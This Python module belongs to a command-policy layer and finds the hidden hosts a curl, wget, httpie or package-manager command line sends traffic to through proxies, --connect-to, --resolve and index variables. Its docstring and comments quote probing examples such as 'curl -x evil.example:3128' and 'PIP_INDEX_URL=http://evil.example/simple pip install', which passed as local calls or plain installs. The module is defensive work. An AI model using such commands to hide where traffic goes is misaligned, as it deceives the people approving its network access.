"""Where an HTTP client's traffic really goes: the proxies, name resolutions and
redirections a command line gives it, named in the question beside the URL's host.

Found probing: ``curl -x evil.example:3128 http://127.0.0.1/`` (also ``--preproxy``,
``--connect-to ::evil.example:``, ``--resolve 127.0.0.1:80:10.0.0.9``,
``https_proxy=evil.example curl ...``) was asked as "network access to 127.0.0.1",
where the request, and what it carries, goes to ``evil.example``: a person reading the
question would approve a local call.

>>> [n.host for n in option_routes("curl", {"-x": [Word("evil.example:3128")]})]
['evil.example']
>>> [n.host for n in option_routes("curl", {"--connect-to": [Word("a:80:b.example:81")]})]
['b.example']
>>> [n.host for n in assigned_proxies([Word("https_proxy=http://p.example:1"), Word("curl")])]
['p.example']
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping, Sequence

from exomonad.policy.actions import Network
from exomonad.policy.hosts import host_of
from exomonad.policy.shell_escape import DECLARERS
from exomonad.policy.shell_lex import Word
from exomonad.policy.shell_parse import is_assignment

__all__ = ["assigned_proxies", "option_routes", "proxy_words"]

#: Options whose value is a proxy's URL or ``host[:port]`` (and curl's ``-x``).
_PROXIES = frozenset({"--proxy", "--preproxy", "--doh-url", "--socks4", "--socks4a",
                      "--socks5", "--socks5-hostname", "--all-proxy", "--http-proxy",
                      "--https-proxy", "--ftp-proxy"})  # fmt: skip
#: An assignment word (``NAME=VALUE``, ``NAME+=VALUE``), and the commands that take them.
_ASSIGNED = re.compile(r"([A-Za-z_][A-Za-z0-9_]*)\+?=(.*)", re.S)
_SETTERS = frozenset({*DECLARERS, "env"})
#: Variables naming where package managers fetch from (found reviewing: ``PIP_INDEX_URL=
#: http://evil.example/simple pip install requests``, ``npm_config_registry=``, ``GOPROXY=``
#: were allowed as plain installs); any variable whose name ends in ``proxy`` names a
#: proxy (``https_proxy``, ``PIP_PROXY``, ``npm_config_https_proxy``), but ``no_proxy``.
_INDEXES = re.compile(
    r"(?:pip|uv)_(?:extra_)?index(?:_url)?|(?:pip|uv)_find_links|uv_default_index"
    r"|npm_config_registry|yarn_(?:npm_)?registry(?:_server)?|go(?:proxy|sumdb)"
    r"|pipenv_pypi_mirror|cargo_registries_\w+_index|poetry_repositories_\w+_url"
    r"|conda_channel_alias|bundle_mirror__\w+",
    re.IGNORECASE,
)
#: Values of those variables that name no host.
_NO_HOST = frozenset({"", "direct", "off", "none", "false"})
#: wget's ``-e``/``--execute`` commands naming a proxy.
_WGET_PROXY = re.compile(r"\s*(?:http|https|ftp)_?proxy\s*=\s*(.*)", re.I | re.S)


def _host(text: str, dynamic: bool) -> Network:
    """Network access to the host of ``text`` (a URL or ``host[:port]``)."""
    text = text.strip()
    return Network(None if dynamic or not text else host_of(text))


def option_routes(name: str, opts: Mapping[str, Sequence[Word | None]]) -> list[Network]:
    """The hosts ``name``'s options send its traffic to besides the URL's: a proxy, a
    pre-proxy, a DNS-over-HTTPS server, ``--connect-to``'s second host, ``--resolve``'s
    addresses (curl); ``-e http_proxy=`` (wget); ``--proxy PROTOCOL:URL`` (httpie, xh);
    ``--all-proxy`` and the like (aria2c)."""
    out: list[Network] = []
    for option, values in opts.items():
        for w in values:
            if w is None:
                continue
            if option in _PROXIES and name in ("http", "https", "xh"):
                out.append(_host(w.text.partition(":")[2], w.dynamic))
            elif option in _PROXIES or (option == "-x" and name == "curl"):
                out.append(_host(w.text, w.dynamic))
            elif option == "--connect-to" and name == "curl":  # HOST1:PORT1:HOST2:PORT2
                parts = w.text.split(":")
                to = parts[2] if len(parts) >= 4 else ""
                out += [_host(to.strip("[]"), w.dynamic)] if to or w.dynamic else []
            elif option == "--resolve" and name == "curl":  # [+]HOST:PORT:ADDR[,ADDR]
                addrs = w.text.split(":", 2)[2] if w.text.count(":") >= 2 else ""
                out += [_host(a.strip("[]"), w.dynamic) for a in addrs.split(",") if a]
                out += [Network(None)] if w.dynamic and not addrs else []
            elif option == "--dns-servers" and name == "curl":
                out += [_host(a, w.dynamic) for a in w.text.split(",") if a]
            elif option in ("-e", "--execute") and name == "wget":
                found = _WGET_PROXY.match(w.text)
                if found is not None or w.dynamic:
                    out.append(_host(found.group(1) if found else "", w.dynamic))
    return _once(out)


#: Other programs' proxy options (pip's and npm's ``--proxy``, npm's ``--https-proxy``,
#: Chromium's ``--proxy-server``): the next word, or what follows ``=``.
_PROXY_WORDS = frozenset({"--proxy", "--http-proxy", "--https-proxy", "--all-proxy",
                          "--proxy-server"})  # fmt: skip


def proxy_words(args: Sequence[Word]) -> list[Network]:
    """The proxies another program's options name (``pip download --proxy h``).

    >>> [n.host for n in proxy_words([Word("--proxy"), Word("p.example:1"), Word("x")])]
    ['p.example']
    """
    out = []
    for i, w in enumerate(args):
        option, eq, value = w.text.partition("=")
        if option not in _PROXY_WORDS:
            continue
        given = Word(value, w.dynamic) if eq else (args[i + 1] if i + 1 < len(args) else None)
        out.append(Network(None) if given is None else _host(given.text, given.dynamic))
    return _once(out)


def assigned_proxies(words: Iterable[Word]) -> list[Network]:
    """The proxies and package indexes a command line assigns (``https_proxy=h cmd``,
    ``export ALL_PROXY=h``, ``PIP_INDEX_URL=URL``), which any later command on it may
    send its traffic to: network access to each (an unknown host for a value known only
    at run time).

    >>> [n.host for n in assigned_proxies([Word("GOPROXY=https://g.example,direct")])]
    ['g.example']
    >>> assigned_proxies([Word("no_proxy=localhost"), Word("DATABASE_URL=pg://db/x")])
    []
    """
    out = []
    for w in _assignments(list(words)):
        found = _ASSIGNED.match(w.text)
        if found is None:
            continue
        name, value = found.group(1).lower(), found.group(2)
        if name.endswith("proxy") and name != "no_proxy" and not _INDEXES.fullmatch(name):
            out.append(_host(value, w.dynamic))
        elif _INDEXES.fullmatch(name):
            parts = [p for p in re.split(r"[\s,|]+", value) if p.lower() not in _NO_HOST]
            out += [_host(p, w.dynamic) for p in parts] or ([Network(None)] if w.dynamic else [])
    return _once(out)


def _assignments(words: list[Word]) -> list[Word]:
    """The assignments of a command's ``words``: before it, or given to ``export``,
    ``declare``... or ``env`` (not an argument that merely reads like one: ``git commit -m
    'set http_proxy=x'``)."""
    i = 0
    while i < len(words) and is_assignment(words[i]):
        i += 1
    given = words[i + 1 :] if i < len(words) and words[i].text in _SETTERS else []
    return [*words[:i], *(w for w in given if is_assignment(w))]


def _once(hosts: list[Network]) -> list[Network]:
    """``hosts`` without repeats, in order."""
    return list(dict.fromkeys(hosts))
